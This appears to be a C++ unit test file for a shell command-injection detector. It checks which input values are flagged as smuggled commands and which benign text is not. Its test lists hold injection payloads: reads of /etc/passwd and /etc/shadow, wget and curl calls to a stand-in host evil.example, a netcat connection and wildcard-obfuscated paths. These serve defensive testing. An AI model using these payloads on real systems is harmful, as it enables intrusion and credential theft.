// SPDX-License-Identifier: Apache-2.0
#include "inspect/confirm/shell.hpp"
#include "inspect/confirm/shell_words.hpp"
#include "support/catch.hpp"

using namespace tapwarden;

TEST_CASE("a value that runs a command in a command line is told") {
  for (const char* value : {
           "127.0.0.1; cat /etc/passwd",
           "x|id",
           "x||whoami",
           "a && wget http://evil.example/x",
           "&dir c:\\",
           "`whoami`",
           "x$(curl http://evil.example/)",
           "<(cat file)",
           "'; ls -la #",
           "\" | nc 10.0.0.1 4444",
           "a\r\ncat /etc/passwd",
           ";sudo -n cat /etc/shadow",
           "; A=b env",
           ";/b?n/c?t /etc/hosts",
           ";{wget,http://evil.example/x}",
           "/bin/sh -c id",
           "cat /etc/passwd",
           "sleep 5",
           "net user x /add",
           "whoami",
       }) {
    INFO(value);
    CHECK_FALSE(command_in(value).empty());
  }
}

TEST_CASE("sentences, tables, styles and quoted code run no command") {
  for (const char* value : {
           "",
           ";",
           "$(",
           "`",
           "cats; dogs",
           "He came; time flies",
           "fish & chips; salt & vinegar",
           "| id | name | date |",
           "| curl | wget |",
           "color: red; top: 5px",
           "a && b || c; test(x)",
           "a=1&id=2&sort=up",
           "&quot;find&quot; more",
           "run `ls -la` to see the files",
           "``` npm i && ls -la ``` and so on",
           "curl/8.5.0",
           "cat food",
           "tar is a dark liquid",
           "name;id;type;host",
           "data:image/png;base64,iVBORw0KGgo=",
           "index=main | sort -count | head 10",
           "SSL; SSH; FTP",
       }) {
    INFO(value);
    CHECK(command_in(value).empty());
  }
}

TEST_CASE("the name of a parameter is a command only with arguments") {
  CHECK_FALSE(command_in("cat /etc/passwd", true).empty());
  CHECK(command_in("id", true).empty());
  CHECK(command_in("curl", true).empty());
}

TEST_CASE("what is shown of a command begins at its separator") {
  CHECK(command_in("host; cat /etc/passwd") == "; cat /etc/passwd");
}

TEST_CASE("commands are known by their words, whatever their case, ending or version") {
  CHECK(command_kind("whoami") == CommandKind::alone);
  CHECK(command_kind("CMD.EXE") == CommandKind::telling);
  CHECK(command_kind("python3.10") == CommandKind::telling);
  CHECK(command_kind("sudo") == CommandKind::wrapper);
  CHECK(command_kind("id") == CommandKind::probe);
  CHECK(command_kind("find") == CommandKind::plain);
  CHECK(command_kind("cats") == CommandKind::none);
  CHECK(command_kind("") == CommandKind::none);
  CHECK(command_kind("a-word-of-more-octets-than-any-command") == CommandKind::none);
}

TEST_CASE("a path with gaps is told when a program or file of attacks fits into it") {
  CHECK(is_telling_glob("/\?\?\?/c?t"));
  CHECK(is_telling_glob("/bin/ca?"));
  CHECK(is_telling_glob("/etc/pa[s]swd"));
  CHECK_FALSE(is_telling_glob("/api/*/users"));
  CHECK_FALSE(is_telling_glob("/etc/passwd"));
  CHECK_FALSE(is_telling_glob("/*/*"));
  CHECK_FALSE(is_telling_glob("/bin/["));
}

TEST_CASE("a long value of separators comes to an end") {
  std::string value;
  for (int i = 0; i < 4000; ++i) value += ";`$(|&";
  CHECK(command_in(value).empty());
}
